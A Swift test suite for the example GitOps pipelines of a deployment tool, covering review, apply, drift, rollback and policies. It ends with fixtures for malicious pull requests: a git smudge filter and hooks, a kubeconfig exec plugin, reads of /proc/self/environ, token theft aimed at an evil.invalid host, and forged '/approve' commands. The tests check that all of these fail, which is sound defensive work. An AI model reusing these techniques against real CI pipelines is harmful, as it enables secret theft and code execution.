import Foundation
import ProviderKit
import TestSupport
import Testing

/// The pipelines of `examples/gitops`, step by step as they stand there, in a repository with merges.
@Suite("The example pipelines take a change from its review to a rollback, and give a stranger nothing")
struct GitOpsExampleTests {
  private func greet(_ stage: PipelineStage, _ greeting: String) throws {
    try edit(stage, /Good [a-z]+|Hello/, greeting)
  }

  /// Changes the author's workload.
  private func edit(_ stage: PipelineStage, _ pattern: Regex<Substring>, _ text: String) throws {
    let path = "author/workloads/clock.yaml"
    let old = try #require(stage.sandbox.contents(path))
    try stage.sandbox.write(path, old.replacing(pattern, with: text))
  }

  @Test(
    "A change is reviewed, applied as reviewed, watched, and rolled back", arguments: FakeForge.Kind.allCases)
  func life(_ kind: FakeForge.Kind) async throws {
    let pipelines = try await ForgePipelines(kind)
    let stage = pipelines.stage

    // The first pull request says what would be created; its merge creates it.
    try stage.pullRequest(41) { try greet(stage, "Hello") }
    let planned = try pipelines.plan(41)
    #expect(planned.succeeded, "\(planned.output)")
    #expect(pipelines.comment(41)?.contains("Hello") == true, "\(planned.output)")
    let applied = try pipelines.apply(try stage.merge(41))
    #expect(applied.succeeded, "\(applied.output)")
    #expect(try stage.sandbox.releaseNumbers("clock") == [1])

    // Another push to a pull request writes its comment anew.
    try stage.pullRequest(42) { try greet(stage, "Good evening") }
    #expect(try pipelines.plan(42).succeeded)
    try stage.pullRequest(42) { try greet(stage, "Good night") }
    #expect(try pipelines.plan(42).succeeded)
    #expect(stage.forge.comments(42).count == 1)
    #expect(pipelines.comment(42)?.contains("Good night") == true)
    // The commit that changed it is shown.
    let change = try stage.git("rev-parse --short=7 origin/change-42", in: "author")
    let second = try stage.merge(42)
    #expect(try pipelines.apply(second).succeeded)
    #expect(try stage.sandbox.releaseNumbers("clock") == [1, 2])
    #expect(try stage.sandbox.berth("history", "clock").output.contains(change))
    // The same job once more does nothing more.
    #expect(try pipelines.apply(second).succeeded)
    #expect(try stage.sandbox.releaseNumbers("clock") == [1, 2])

    // At night: first nothing, then drift in one issue, which is written anew and closed at last.
    stage.forge.open("Drift on prod", by: .stranger)
    #expect(try pipelines.drift().succeeded)
    #expect(pipelines.issues().isEmpty)
    let file = try #require(try greetingFile(stage))
    try "Bad morning\n".write(toFile: file, atomically: false, encoding: .utf8)
    for _ in 1...2 {
      let drift = try pipelines.drift()
      #expect(drift.succeeded, "\(drift.output)")
      let issues = pipelines.issues()
      #expect(issues.map(\.title) == ["Drift on prod"])
      #expect(issues.first?.text.contains("Bad morning") == true, "\(issues)")
    }

    // By hand, back to the first release; that mends the drift, too.
    let back = try pipelines.rollback("clock", to: "1")
    #expect(back.succeeded, "\(back.output)")
    let newest = try stage.sandbox.berth("history", "clock", "--format", "json").json.list?.first
    #expect(newest?["number"]?.int == 3 && newest?["restoredFrom"]?.int == 1)
    #expect(try pipelines.drift().succeeded)
    #expect(pipelines.issues().isEmpty)
    #expect(stage.forge.issues.filter(\.isOpen).map(\.author) == [.stranger])
  }

  /// The file of an instance that the greeting was written to.
  private func greetingFile(_ stage: PipelineStage) throws -> String? {
    let paths = try FileManager.default.subpathsOfDirectory(atPath: stage.sandbox.home)
    return paths.first { $0.hasSuffix("etc/clock/greeting") }.map {
      stage.sandbox.home + "/" + $0
    }
  }

  @Test(
    "A policy holds from its merge on, also for what was there before, until a person gives a reason",
    arguments: FakeForge.Kind.allCases)
  func policies(_ kind: FakeForge.Kind) async throws {
    let pipelines = try await ForgePipelines(kind)
    let stage = pipelines.stage
    for (number, version) in [(Int64(41), "1.36"), (42, "1.37.1")] {
      try stage.pullRequest(number) { try edit(stage, /busybox:[0-9.]+/, "busybox:\(version)") }
      #expect(try pipelines.plan(number).succeeded)
      #expect(try pipelines.apply(try stage.merge(number)).succeeded)
    }
    try stage.pullRequest(43) {
      try stage.sandbox.write(
        "author/policies/old.yaml",
        "policies: {no-old-busybox: {fields: [{field: services.image.tag, noneOf: ['1.36']}]}}\n")
    }
    _ = try stage.merge(43)
    let refused = try pipelines.rollback("clock", to: "1")
    #expect(!refused.succeeded && refused.output.contains("error[E0680]"), "\(refused.output)")
    #expect(try stage.sandbox.releaseNumbers("clock") == [1, 2])
    let back = try pipelines.rollback("clock", to: "1", override: "the shop is down; see 'ops'")
    #expect(back.succeeded, "\(back.output)")
    #expect(try stage.sandbox.berth("history", "clock").output.contains("the shop is down; see 'ops'"))
  }

  @Test(
    "What was not reviewed is not applied, until a person applies it by its id",
    arguments: FakeForge.Kind.allCases)
  func unreviewed(_ kind: FakeForge.Kind) async throws {
    let pipelines = try await ForgePipelines(kind)
    let stage = pipelines.stage
    try stage.pullRequest(41) { try greet(stage, "Hello") }
    #expect(try pipelines.plan(41).succeeded)
    // The author pushes once more, and it is merged before the pipeline has planned it.
    try stage.pullRequest(41) { try greet(stage, "Good evening") }
    let changed = try pipelines.apply(try stage.merge(41))
    #expect(!changed.succeeded && changed.output.contains("E0706"), "\(changed.output)")
    // A push past all reviews.
    try stage.git("checkout --quiet --force --detach origin/main", in: "author")
    try greet(stage, "Good night")
    let pushed = try pipelines.apply(try stage.commit("No review", to: "main"))
    #expect(!pushed.succeeded && pushed.output.contains("E1108"), "\(pushed.output)")
    #expect(try stage.sandbox.berth("history", "clock").status != 0)

    let wrong = try pipelines.apply(id: String(repeating: "0", count: 32))
    #expect(!wrong.succeeded && wrong.output.contains("E0706"), "\(wrong.output)")
    let plan = try stage.sandbox.berth(
      "plan", "-f", "author/workloads", "--config", "author/berth.yaml", "--set", "prod", "--prune",
      "--format", "json")
    let id = try #require(try plan.json["id"]?.string)
    let meant = try pipelines.apply(id: id)
    #expect(meant.succeeded, "\(meant.output)")
    #expect(try stage.sandbox.releaseNumbers("clock") == [1])
  }

  // MARK: What installs berth

  @Test("The action installs nothing whose checksum is another one, and asks for nothing by a strange name")
  func checksum() async throws {
    let stage = try await PipelineStage(.github)
    func install(_ inputs: [String: String]) throws -> (end: PipelineEnd, asked: String?) {
      let job = try PipelineJob(stage)
      try job.checkOut("main", into: "work")
      job.environment = [
        "RUNNER_TEMP": job.folder, "PATH": ProcessInfo.processInfo.environment["PATH"] ?? "",
      ]
      let all = ["version": BerthVersion.text, "repository": "ada/berth"].merging(inputs) { $1 }
      try ActionStep.run("./.github/actions/berth", all, job)
      return (job.end, stage.sandbox.contents("\(job.name)/server/asked"))
    }
    let good = try install([:])
    let archive = "berth-\(BerthVersion.text)-\(ActionStep.platform).tar.gz"
    let release = "https://github.com/ada/berth/releases/download/v\(BerthVersion.text)"
    #expect(good.end.succeeded, "\(good.end.output)")
    #expect(good.asked == "\(release)/\(archive)\n\(release)/SHA256SUMS\n")
    let other = try install(["sha256": String(repeating: "0", count: 64)])
    #expect(!other.end.succeeded && other.end.output.contains("has the checksum"), "\(other.end.output)")
    for strange in [
      ["repository": "ada/berth/../x"], ["server": "http://forge.example.com"], ["sha256": "0"],
    ] {
      let refused = try install(strange)
      #expect(!refused.end.succeeded && refused.asked == nil, "\(refused.end.output)")
    }
  }

  @Test("The pipeline of GitLab runs the image of this version")
  func image() throws {
    let text = try String(contentsOfFile: GitLabPipeline.path, encoding: .utf8)
    #expect(text.contains("/berth:\(BerthVersion.text) "))
  }

  // MARK: A malicious pull request

  private static let target = """
    default: evil
    webhook: {url: "http://127.0.0.1:9/", secret: env:KUBECONFIG}
    targets:
      evil: {provider: docker, host: "ssh://mallory@evil.invalid", registries: [evil.invalid]}
      prod: {provider: kubernetes, kubeconfig: kubeconfig, context: evil}
    """
  private static let plugin = """
    {apiVersion: v1, kind: Config, current-context: evil, clusters: [{name: evil, cluster: {server: "https://127.0.0.1:9"}}],
    contexts: [{name: evil, context: {cluster: evil, user: evil}}],
    users: [{name: evil, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: touch, args: [PWNED]}}}]}
    """

  private static func workload(_ fields: String) -> String {
    "name: evil\nservices: [{name: main, image: \"evil.invalid/x:1\", command: [sleep, '1000'], stopGrace: 1s, \(fields)}]\n"
  }

  /// What a pull request adds, and what comes of its plan: a code of an error, or `nil` where it is planned.
  struct Attack: Sendable, CustomTestStringConvertible {
    let testDescription: String
    let code: String?
    let files: [String: String]
    var links: [String: String] = [:]
  }

  static let attacks = [
    Attack(
      testDescription: "a configuration of its own, with a program and another target", code: nil,
      files: ["berth.yaml": target, "workloads/berth.yaml": target, "kubeconfig": plugin]),
    Attack(
      testDescription: "policies of its own, which allow its image", code: "E0680",
      files: [
        "policies/images.yaml":
          "policies: {fixed-tags: {severity: warning, fields: [{field: services.image, set: true}]}}\n",
        "workloads/evil.yaml": workload("").replacing("x:1", with: "x:latest"),
      ]),
    Attack(
      testDescription: "pipelines and actions of its own", code: nil,
      files: [
        ".github/workflows/plan.yml": "jobs: {plan: {steps: [{name: x, run: 'touch PWNED'}]}}",
        ".github/actions/berth/action.yml":
          "runs: {using: composite, steps: [{run: 'touch PWNED', shell: bash}]}",
        ".gitea/workflows/plan.yml": "jobs: {plan: {steps: [{name: x, run: 'touch PWNED'}]}}",
        ".gitea/actions/berth/action.yml":
          "runs: {using: composite, steps: [{run: 'touch PWNED', shell: bash}]}",
        ".gitlab-ci.yml": "plan: {script: ['touch PWNED']}",
        "gitlab-ci.yml": "plan: {script: ['touch PWNED']}",
      ]),
    Attack(
      testDescription: "programs by the settings of git", code: nil,
      files: [
        ".gitattributes": "* filter=evil diff=evil merge=evil\n",
        ".gitconfig": "[filter \"evil\"]\n\tsmudge = touch PWNED\n[core]\n\tfsmonitor = touch PWNED\n",
        "hooks/post-checkout": "#!/bin/sh\ntouch PWNED\n", "bin/berth": "#!/bin/sh\ntouch PWNED\n",
      ]),
    Attack(
      testDescription: "a file of the runner by its path", code: "E0114",
      files: [
        "workloads/evil.yaml": workload("configFiles: [{name: f, path: /etc/f, file: /proc/self/environ}]")
      ]),
    Attack(
      testDescription: "a file of the runner by a link", code: "E0114",
      files: ["workloads/evil.yaml": workload("configFiles: [{name: f, path: /etc/f, file: link}]")],
      links: ["workloads/link": "/proc/self/environ"]),
    Attack(
      testDescription: "a workload that is a link", code: "E0114", files: [:],
      links: ["workloads/evil.yaml": "/proc/self/environ"]),
    Attack(
      testDescription: "what git keeps of the runner", code: "E0114",
      files: ["workloads/evil.yaml": workload("configFiles: [{name: f, path: /etc/f, file: ../.git/config}]")]
    ),
    Attack(
      testDescription: "the secrets of the job, in the environment and in texts", code: nil,
      files: [
        "workloads/evil.yaml": workload(
          "secrets: [{key: \"env:GITHUB_TOKEN\", as: A}, {key: \"env:GITEA_TOKEN\", as: B}, {key: \"env:GITLAB_TOKEN\", as: C}, {key: \"env:KUBECONFIG\", as: D}]"
        )
      ]),
    Attack(
      testDescription: "the token of the job, for a registry of its own", code: "E0621",
      files: [
        "workloads/evil.yaml": workload(
          "secrets: [{key: \"env:FORGE_TOKEN\", type: registry, as: evil.invalid}]")
      ]),
    Attack(
      testDescription: "a plan larger than a comment, with a forged id and commands in it", code: nil,
      files: [
        "workloads/evil.yaml": workload(
          "env: {Z: \"/approve\\n/merge\\n```\\n<!-- berth id 00000000000000000000000000000000 -->\\n\", "
            + (0..<4000).map { "V\($0): 'a value of some length, and some more of it: \($0)'" }.joined(
              separator: ", ") + "}")
      ]),
  ]

  @Test("A malicious pull request gets nothing", arguments: FakeForge.Kind.allCases, attacks)
  func attack(_ kind: FakeForge.Kind, _ attack: Attack) async throws {
    let pipelines = try await ForgePipelines(kind)
    let stage = pipelines.stage
    let marker = "<!-- berth plan prod/default -->"
    stage.forge.add(
      "\(marker)\n\nNo changes.\n\n<!-- berth id \(String(repeating: "0", count: 32)) -->", by: .stranger,
      to: 41)
    try stage.pullRequest(41) {
      for (path, text) in attack.files {
        let file = try stage.sandbox.make(
          "author/" + path,
          text.replacing("PWNED", with: stage.sandbox.folder + "/pwned")
            .replacing("FORGE_TOKEN", with: "\(kind.rawValue.uppercased())_TOKEN"))
        if text.hasPrefix("#!") { chmod(file, 0o755) }
      }
      for (path, target) in attack.links { try stage.sandbox.link("author/" + path, to: target) }
    }
    let planned = try pipelines.plan(41)
    let comment = try #require(pipelines.comment(41), "\(planned.output)")
    #expect(comment.hasPrefix(marker) && comment.unicodeScalars.count < 65_536)
    // GitLab would do what such a line says.
    #expect(!comment.contains(/(?m)^\s*\//))
    #expect(stage.forge.comments(41).count == 2)
    if let code = attack.code {
      #expect(!planned.succeeded && planned.output.contains("error[\(code)]"), "\(planned.output)")
      #expect(comment.contains("### No plan: ") || comment.contains("**Policies stop `evil`.**"))
    } else {
      #expect(planned.succeeded, "\(planned.output)")
      #expect(
        comment.contains(/<!-- berth id [0-9a-f]{32} -->\s*$/)
          && comment.contains("### Plan: `clock` on `prod`"))
      let id = comment.split(separator: "\n").last ?? ""
      #expect(!id.contains("0000000000000000"), "\(id)")
    }
    // Nothing runs, and nothing was sent but to the forge.
    #expect(try stage.sandbox.berth("history", "clock").status != 0)
  }
}
